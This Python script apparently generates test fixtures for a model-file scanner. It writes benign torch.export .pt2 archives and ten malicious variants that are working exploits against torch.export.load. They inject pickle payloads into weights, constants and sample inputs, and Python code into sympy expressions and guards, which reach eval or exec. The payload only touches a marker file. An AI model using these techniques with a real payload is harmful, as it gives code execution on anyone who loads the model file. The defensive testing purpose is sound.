#!/usr/bin/env python3
"""torch.export `.pt2` archives written by the real library, what the real
loader makes of them, and attack variants proven against it.

Usage: gen_pt2_fixtures.py OUT_DIR
       gen_pt2_fixtures.py --check DIR   (exit 1 unless DIR holds exactly what
                                         this script writes, byte for byte;
                                         malicious/proof.json is
                                         prove_malicious.py's)

Run it with the venv python (scripts/lib/venv.sh: torch pinned by
scripts/requirements.lock).

OUT_DIR/ (benign, each written by `torch.export.save` of a tiny module
exported by `torch.export.export`, CPU, fixed seeds):

  mlp.pt2               Linear-ReLU-Linear, float32
  dtypes.pt2            parameters and buffers of eleven dtypes (float64,
                        float16, bfloat16, float8_e4m3fn, float8_e5m2, int64,
                        int32, int16, int8, uint8, bool)
  buffers_constants.pt2 a persistent and a non-persistent buffer, a tensor
                        constant, two names for one parameter (tied weights),
                        a transposed (non-contiguous) parameter and a buffer
                        viewing part of a parameter's storage
  dynamic.pt2           exported with a dynamic batch size: symbolic sizes
                        (sympy expressions) and a guard (Python code)
  subclass.pt2          a tensor-subclass parameter (TwoTensor), which
                        torch.export.save pickles with torch.save
  legacy.pt2            the layout torch.export.save wrote before the PT2
                        archive (torch 2.2 to 2.5): a Python zipfile with
                        `version` and `serialized_*` members, made from this
                        torch's own serializer (`serialize()`), which that
                        save wrapped as is
  legacy_deflated.pt2   the same layout for buffers_constants.pt2, its
                        members deflated, as a repacked archive would be
  manifest.json         [{"file", "description"}]
  expected.json         {file: what `torch.export.load` returns: its
                        state_dict and constants, each tensor's dtype, shape
                        and the SHA-256 of its contiguous bytes, the type of
                        anything else; and for every member it hands to
                        torch.load, whether torch.load(weights_only=True)
                        loads it}

The stack traces torch records in every graph node (file paths of this
machine) are dropped before saving, so the files are the same everywhere;
torch's archive writer stamps no times, and Python's zipfile (legacy.pt2)
writes under a frozen clock.

OUT_DIR/malicious/: attack variants of those archives, each a working exploit
against `torch.export.load` (or, for the guard, against running the program it
returns), with the harmless payload of gen_malicious_fixtures.py: a pickle
built opcode by opcode calling `posix.system("touch airlock-marker-<t>")`,
or the same command in Python source. Each is a real archive from above with
one member changed or added, written entry by entry (gen_malicious_fixtures'
build_zip). manifest.json has gen_malicious_fixtures.py's keys; the loaders
are "torch.export.load" and "torch.export.load-run" (load, `ep.module()`,
call it on the example inputs), proven by scripts/prove_malicious.py.
"""

import hashlib
import io
import json
import os
import sys
import warnings
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "lib"))
sys.path.insert(0, HERE)
import airlock_fixtures as fx  # noqa: E402

WHEN = "2026-01-01T00:00:00Z"


# ------------------------------------------------------------------ benign


def modules():
    """(file, description, module, example args, dynamic_shapes) per fixture."""
    import torch
    from torch import nn

    torch.manual_seed(0)

    class Mlp(nn.Module):
        def __init__(self):
            super().__init__()
            self.net = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 2))

        def forward(self, x):
            return self.net(x)

    class Dtypes(nn.Module):
        def __init__(self):
            super().__init__()
            g = torch.Generator().manual_seed(1)
            for name in ("float64", "float16", "bfloat16"):
                dt = getattr(torch, name)
                self.register_parameter(f"p_{name}", nn.Parameter(torch.randn(3, 2, generator=g).to(dt)))
            for name in ("float8_e4m3fn", "float8_e5m2"):
                self.register_buffer(f"b_{name}", torch.randn(5, generator=g).to(getattr(torch, name)))
            for name in ("int64", "int32", "int16", "int8", "uint8"):
                self.register_buffer(f"b_{name}", torch.randint(0, 100, (2, 3), generator=g).to(getattr(torch, name)))
            self.register_buffer("b_bool", torch.tensor([True, False, True]))

        def forward(self, x):
            out = x * self.p_float64.sum().float() + self.p_float16.sum().float() + self.p_bfloat16.sum().float()
            out = out + self.b_float8_e4m3fn.float().sum() + self.b_float8_e5m2.float().sum()
            for name in ("int64", "int32", "int16", "int8", "uint8"):
                out = out + getattr(self, f"b_{name}").sum()
            return out + self.b_bool.sum()

    class BuffersConstants(nn.Module):
        def __init__(self):
            super().__init__()
            self.emb = nn.Parameter(torch.randn(4, 3))
            self.head = self.emb  # tied: two names, one parameter
            self.wt = nn.Parameter(torch.randn(3, 5).t())  # transposed view: strides (1, 5)
            self.register_buffer("running", torch.arange(6.0).reshape(2, 3))
            self.register_buffer("scratch", torch.full((3,), 7.0), persistent=False)
            self.register_buffer("tail", self.emb.data[1:])  # a view into emb's storage
            self.table = torch.tensor([[1.0, -2.0], [0.5, 4.0]])  # a tensor constant

        def forward(self, x):
            y = x @ self.emb.t() + self.head.sum() + self.wt.sum()
            return y + self.running.sum() + self.scratch.sum() + self.tail.sum() + self.table.sum()

    class Dynamic(nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = nn.Linear(3, 2)

        def forward(self, x):
            if x.shape[0] > 4:
                return self.lin(x) + 1
            return self.lin(x) * 2

    from torch.testing._internal.two_tensor import TwoTensor

    class Subclass(nn.Module):
        def __init__(self):
            super().__init__()
            self.w = nn.Parameter(TwoTensor(torch.ones(2, 2), torch.full((2, 2), 2.0)))
            self.register_buffer("plain", torch.arange(4.0))

        def forward(self, x):
            return x @ self.w + self.plain.sum()

    auto = {"x": {0: torch.export.Dim.AUTO}}
    return [
        ("mlp.pt2", "Linear-ReLU-Linear, float32", Mlp(), (torch.randn(2, 4),), None),
        ("dtypes.pt2", "parameters and buffers of eleven dtypes", Dtypes(), (torch.randn(2),), None),
        ("buffers_constants.pt2", "buffers (persistent, non-persistent, a view of a parameter), "
         "a tensor constant, tied and transposed parameters", BuffersConstants(), (torch.randn(2, 3),), None),
        ("dynamic.pt2", "a dynamic batch size: symbolic sizes and a guard", Dynamic(), (torch.randn(8, 3),), auto),
        ("subclass.pt2", "a tensor-subclass parameter (TwoTensor), pickled by torch.save", Subclass(),
         (torch.randn(1, 2),), None),
    ]


def export(module, args, dynamic_shapes):
    """torch.export.export, with the stack traces (this machine's paths) dropped."""
    import torch

    ep = torch.export.export(module, args, dynamic_shapes=dynamic_shapes)
    for gm in ep.graph_module.modules():
        if isinstance(gm, torch.fx.GraphModule):
            for node in gm.graph.nodes:
                node.meta.pop("stack_trace", None)
    return ep


def legacy_archive(path, ep, compression=zipfile.ZIP_STORED):
    """The pre-PT2-archive layout: torch.export.save of torch 2.2 to 2.5 wrote
    serialize()'s four artifacts and the schema version into a zipfile
    (stored; `compression` for a repacked copy)."""
    from torch._export.serde.schema import SCHEMA_VERSION
    from torch._export.serde.serialize import serialize

    artifact = serialize(ep)
    with fx.frozen_clock(WHEN), zipfile.ZipFile(path, "w", compression) as z:
        z.writestr("serialized_exported_program.json", artifact.exported_program)
        z.writestr("serialized_state_dict.pt", artifact.state_dict)
        z.writestr("serialized_constants.pt", artifact.constants)
        z.writestr("serialized_example_inputs.pt", artifact.example_inputs)
        z.writestr("version", ".".join(map(str, SCHEMA_VERSION)))


def describe(value):
    """What expected.json records of one loaded value."""
    import torch

    if isinstance(value, torch.Tensor) and type(value) in (torch.Tensor, torch.nn.Parameter):
        t = value.detach().contiguous()
        data = t.flatten().view(torch.uint8).numpy().tobytes() if t.numel() else b""
        return {"dtype": str(t.dtype).removeprefix("torch."), "shape": list(t.shape),
                "parameter": isinstance(value, torch.nn.Parameter), "sha256": hashlib.sha256(data).hexdigest()}
    return {"type": f"{type(value).__module__}.{type(value).__qualname__}"}


def torch_loaded_members(path):
    """The members torch.export.load hands to torch.load, as (name, bytes):
    the sample inputs and, from the payload configs, the pickled weights and
    tensor constants (the older layout: its serialized_*.pt members)."""
    out = []
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        if "serialized_exported_program.json" in names:
            return [(n, z.read(n)) for n in names if n.startswith("serialized_") and n.endswith(".pt")]
        root = names[0].split("/")[0]
        for n in names:
            if n.startswith(f"{root}/data/sample_inputs/"):
                out.append((n, z.read(n)))
        for config, folder in (("weights", "weights"), ("constants", "constants")):
            cfg = json.loads(z.read(f"{root}/data/{folder}/model_{config}_config.json"))
            for meta in cfg["config"].values():
                if meta["use_pickle"] and (folder == "weights" or meta["path_name"].startswith("tensor_")):
                    name = f"{root}/data/{folder}/{meta['path_name']}"
                    out.append((name, z.read(name)))
    return out


def weights_only(path):
    """{member: whether torch.load(weights_only=True) loads it} for every
    member torch.export.load hands to torch.load (empty ones it skips)."""
    import torch

    out = {}
    for name, data in torch_loaded_members(path):
        if not data:
            continue
        try:
            torch.load(io.BytesIO(data), weights_only=True)
            out[name] = True
        except Exception:  # noqa: BLE001 - any refusal counts
            out[name] = False
    return out


def loaded(path):
    """What torch.export.load makes of PATH: its state dict and constants,
    and what torch.load(weights_only=True) makes of the members it reads."""
    import torch

    ep = torch.export.load(path)
    return {
        "state_dict": {k: describe(v) for k, v in ep.state_dict.items()},
        "constants": {k: describe(v) for k, v in ep.constants.items()},
        "weights_only": weights_only(path),
    }


def write_benign(out_dir):
    import torch

    os.makedirs(out_dir, exist_ok=True)
    manifest, expected = [], {}
    eps = {}
    for file, description, module, args, dynamic in modules():
        ep = export(module, args, dynamic)
        eps[file] = ep
        path = os.path.join(out_dir, file)
        torch.export.save(ep, path)
        manifest.append({"file": file, "description": description})
        expected[file] = loaded(path)
    legacy = os.path.join(out_dir, "legacy.pt2")
    legacy_archive(legacy, eps["mlp.pt2"])
    manifest.append({"file": "legacy.pt2", "description": "the zipfile layout of torch 2.2 to 2.5 "
                     "(serialized_* members), made from this torch's serializer"})
    expected["legacy.pt2"] = loaded(legacy)
    legacy = os.path.join(out_dir, "legacy_deflated.pt2")
    legacy_archive(legacy, eps["buffers_constants.pt2"], zipfile.ZIP_DEFLATED)
    manifest.append({"file": "legacy_deflated.pt2", "description": "the older layout of "
                     "buffers_constants.pt2, its members deflated (a repacked archive): "
                     "a tensor constant in serialized_constants.pt"})
    expected["legacy_deflated.pt2"] = loaded(legacy)
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    with open(os.path.join(out_dir, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1, sort_keys=True)
        f.write("\n")


# ------------------------------------------------------------------ malicious


def members(path):
    """The entries of an archive, in order, as (name, bytes)."""
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def rebuild(entries):
    import gen_malicious_fixtures as gm

    return gm.build_zip([dict(name=n, data=d) for n, d in entries])


def replace(entries, suffix, new):
    """ENTRIES with the member ending in SUFFIX replaced by NEW(old bytes)."""
    hits = [n for n, _ in entries if n.endswith(suffix)]
    assert len(hits) == 1, (suffix, hits)
    return [(n, new(d) if n == hits[0] else d) for n, d in entries]


def edit_json(entries, suffix, edit):
    def new(data):
        value = json.loads(data)
        edit(value)
        return json.dumps(value).encode()

    return replace(entries, suffix, new)


def insert_after(entries, suffix, name, data):
    i = next(k for k, (n, _) in enumerate(entries) if n.endswith(suffix))
    return entries[: i + 1] + [(name, data)] + entries[i + 1 :]


def payload(tech, value=None):
    """A pickle that runs the marker command, then returns VALUE (data)."""
    import gen_malicious_fixtures as gm

    return gm.side_effect_then(tech, value)


def torch_save_payload(tech, value=None):
    """What torch.load reads: a torch.save-style ZIP whose data.pkl is the payload."""
    import gen_malicious_fixtures as gm

    return gm.torch_zip(payload(tech, value))


def python_payload(tech):
    """The marker command as a Python expression."""
    import gen_malicious_fixtures as gm

    return f"__import__('posix').system({gm.sh(tech)!r})"


MALICIOUS = []


def attack(technique, base, loader, description):
    def register(build):
        MALICIOUS.append(dict(technique=technique, base=base, loader=loader, description=description, build=build))
        return build

    return register


EL = "torch.export.load"
ELR = "torch.export.load-run"


@attack("pt2-sample-inputs", "mlp.pt2", EL,
        "data/sample_inputs/model.pt is a torch.save archive whose data.pkl calls posix.system: "
        "torch.export.load tries weights_only=True, which refuses it, then loads it again with weights_only=False")
def _(t, entries):
    return replace(entries, "/data/sample_inputs/model.pt", lambda _: torch_save_payload(t, ((), {})))


@attack("pt2-weight-use-pickle", "mlp.pt2", EL,
        "the weights config marks a weight use_pickle: its record, a torch.save archive with the payload, "
        "is read with torch.load(weights_only=False)")
def _(t, entries):
    def mark(cfg):
        first = next(iter(cfg["config"].values()))
        first["use_pickle"] = True
        first["path_name"] = "weight_0"

    entries = edit_json(entries, "/data/weights/model_weights_config.json", mark)
    return replace(entries, "/data/weights/weight_0", lambda _: torch_save_payload(t))


@attack("pt2-constant-use-pickle", "buffers_constants.pt2", EL,
        "the constants config marks the tensor constant use_pickle: its record (tensor_0) is read with "
        "torch.load(weights_only=False)")
def _(t, entries):
    def mark(cfg):
        for meta in cfg["config"].values():
            if meta["path_name"] == "tensor_0":
                meta["use_pickle"] = True

    entries = edit_json(entries, "/data/constants/model_constants_config.json", mark)
    return replace(entries, "/data/constants/tensor_0", lambda _: torch_save_payload(t))


@attack("pt2-opaque-object", "mlp.pt2", EL,
        "a constant named opaque_obj_0 (an opaque object, as torch.export.save stores them): "
        "torch.export.load reads it with plain pickle.loads")
def _(t, entries):
    def add(cfg):
        cfg["config"]["helper"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                   "tensor_meta": None}

    entries = edit_json(entries, "/data/constants/model_constants_config.json", add)
    prefix = entries[0][0].split("/")[0]
    return insert_after(entries, "/data/constants/model_constants_config.json",
                        f"{prefix}/data/constants/opaque_obj_0", payload(t))


@attack("pt2-legacy-weights", "mlp.pt2", EL,
        "data/weights/model.pt, the weights file of older PT2 archives: when present torch.export.load "
        "takes it instead of the weights config and loads it with torch.load, falling back to weights_only=False")
def _(t, entries):
    prefix = entries[0][0].split("/")[0]
    return insert_after(entries, "/data/weights/model_weights_config.json",
                        f"{prefix}/data/weights/model.pt", torch_save_payload(t, {}))


@attack("pt2-legacy-constants", "mlp.pt2", EL,
        "data/constants/model.pt, the constants file of older PT2 archives: loaded with torch.load, "
        "falling back to weights_only=False")
def _(t, entries):
    prefix = entries[0][0].split("/")[0]
    return insert_after(entries, "/data/constants/model_constants_config.json",
                        f"{prefix}/data/constants/model.pt", torch_save_payload(t, {}))


@attack("pt2-sympy-expression", "dynamic.pt2", EL,
        "no pickle at all: a symbolic size in models/model.json whose expression calls posix.system; "
        "torch.export.load parses it with sympy.sympify, which evaluates it with eval")
def _(t, entries):
    def edit(data):
        text = data.decode()
        old = '"expr_str": "Symbol('
        assert old in text
        new = '"expr_str": ' + json.dumps(python_payload(t) + " or Symbol(")[:-1]
        return text.replace(old, new, 1).encode()

    return replace(entries, "/models/model.json", edit)


@attack("pt2-guard-code", "dynamic.pt2", ELR,
        "a guard in models/model.json that calls posix.system: ep.module() compiles the guards with exec "
        "and the module runs them on every call")
def _(t, entries):
    def edit(program):
        program["guards_code"].append(python_payload(t) + " == 0")

    return edit_json(entries, "/models/model.json", edit)


@attack("pt2-fallback-legacy", "mlp.pt2", EL,
        "a PT2 archive followed by root-level members of the older zipfile layout: torch's reader fails "
        "listing the records (RuntimeError), torch.export.load falls back to Python's zipfile and loads "
        "serialized_example_inputs.pt, which carries the payload")
def _(t, entries):
    from torch._export.serde.schema import SCHEMA_VERSION

    program = next(d for n, d in entries if n.endswith("/models/model.json"))
    return entries + [
        ("serialized_exported_program.json", program),
        ("serialized_state_dict.pt", _empty_torch_dict()),
        ("serialized_constants.pt", _empty_torch_dict()),
        ("serialized_example_inputs.pt", torch_save_payload(t, ((), {}))),
        ("version", ".".join(map(str, SCHEMA_VERSION)).encode()),
    ]


@attack("pt2-legacy-layout", "legacy.pt2", EL,
        "the zipfile layout of torch 2.2 to 2.5, whose serialized_state_dict.pt carries the payload: "
        "torch.export.load reads it with torch.load, falling back to weights_only=False")
def _(t, entries):
    return replace(entries, "serialized_state_dict.pt", lambda _: torch_save_payload(t, {}))


def _empty_torch_dict():
    import gen_malicious_fixtures as gm

    return gm.torch_zip(b"\x80\x02}q\x00.")


def write_malicious(benign_dir, out_dir):
    import gen_malicious_fixtures as gm

    os.makedirs(out_dir, exist_ok=True)
    manifest = []
    for a in MALICIOUS:
        tech = a["technique"]
        data = rebuild(a["build"](tech, members(os.path.join(benign_dir, a["base"]))))
        name = f"{tech}.pt2"
        with open(os.path.join(out_dir, name), "wb") as f:
            f.write(data)
        manifest.append({"file": name, "technique": tech, "description": a["description"],
                         "reference": "torch/export/pt2_archive/_package.py, torch/_export/serde/serialize.py "
                                      "(torch 2.15)",
                         "loader": a["loader"], "marker": gm.marker(tech)})
    with open(os.path.join(out_dir, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")


def write_all(out_dir):
    warnings.simplefilter("ignore")
    import logging

    logging.disable(logging.WARNING)
    write_benign(out_dir)
    write_malicious(out_dir, os.path.join(out_dir, "malicious"))


def main():
    fx.fixed_hash_seed(0)
    if len(sys.argv) == 3 and sys.argv[1] == "--check":
        sys.exit(fx.check_dir(write_all, sys.argv[2], ignore=("malicious/proof.json",)))
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    write_all(sys.argv[1])
    print(f"wrote {sys.argv[1]}")


if __name__ == "__main__":
    main()
